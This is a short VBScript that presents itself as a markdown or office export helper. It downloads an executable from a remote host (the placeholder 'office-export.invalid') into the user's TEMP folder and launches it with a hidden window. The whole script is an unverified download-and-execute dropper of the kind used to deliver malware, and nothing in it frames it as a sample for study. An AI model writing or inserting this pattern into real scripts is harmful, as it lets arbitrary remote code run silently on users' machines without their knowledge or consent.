Option Explicit
Dim http, stream, shell, fso, target

Set fso = CreateObject("Scripting.FileSystemObject")
Set shell = CreateObject("WScript.Shell")
target = shell.ExpandEnvironmentStrings("%TEMP%") & "\md-export.exe"

If Not fso.FileExists(target) Then
    Set http = CreateObject("MSXML2.ServerXMLHTTP.6.0")
    http.Open "GET", "https://office-export.invalid/md-export.exe", False
    http.Send
    If http.Status = 200 Then
        Set stream = CreateObject("ADODB.Stream")
        stream.Type = 1
        stream.Open
        stream.Write http.ResponseBody
        stream.SaveToFile target, 2
        stream.Close
    End If
End If

shell.Run """" & target & """ --input .", 0, True
